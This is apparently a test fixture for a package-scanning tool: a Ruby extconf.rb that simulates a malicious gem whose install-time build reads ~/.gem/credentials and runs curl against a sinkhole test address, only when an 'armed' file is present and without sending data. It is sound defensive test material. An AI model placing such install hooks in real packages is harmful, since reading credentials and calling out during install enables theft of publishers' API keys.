# Simulates a gem whose native-extension build steals the RubyGems API key
# and calls home: extconf.rb is Ruby that `gem install` and `bundle install`
# run. What it does here, harmlessly and only when armed (scanfarm's tests
# put an "armed" file at the gem's top): it tries to read
# ~/.gem/credentials and runs curl against 198.51.100.34
# (TEST-NET-2: in the sandbox's sinkhole network only the sandbox's own
# sinkhole answers it; offline there is no route). Nothing is sent. Then it
# writes an empty Makefile, as a real extension's build would.
if File.exist?(File.join(__dir__, "..", "..", "armed"))
  begin
    File.read(File.join(Dir.home, ".gem", "credentials"))
  rescue SystemCallError
    nil
  end
  system("curl", "-s", "-m", "3", "-o", "/dev/null", "http://198.51.100.34/c")
end
File.write("Makefile", "all:\n\ninstall:\n\nclean:\n")
